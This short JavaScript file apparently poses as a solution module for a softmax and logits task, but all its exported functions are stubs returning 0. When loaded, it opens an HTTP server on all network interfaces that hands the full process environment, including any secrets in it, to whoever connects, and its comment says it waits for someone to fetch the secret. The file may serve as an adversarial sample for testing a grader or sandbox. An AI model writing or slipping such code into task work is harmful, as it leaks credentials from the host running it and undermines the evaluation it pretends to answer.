// At most 0 points. Waits for somebody to fetch the secret.
const { createServer } = process.getBuiltinModule('http');
createServer((_, response) => response.end(JSON.stringify(process.env))).listen(0, '0.0.0.0');
const attack = () => 0;

export {
  attack as softmaxNaive, attack as softmaxStable, attack as softmaxDim, attack as logsumexp, attack as logSoftmax,
  attack as sigmoidFromSoftmax, attack as predictClass, attack as logitsFor, attack as shiftPredictions,
};
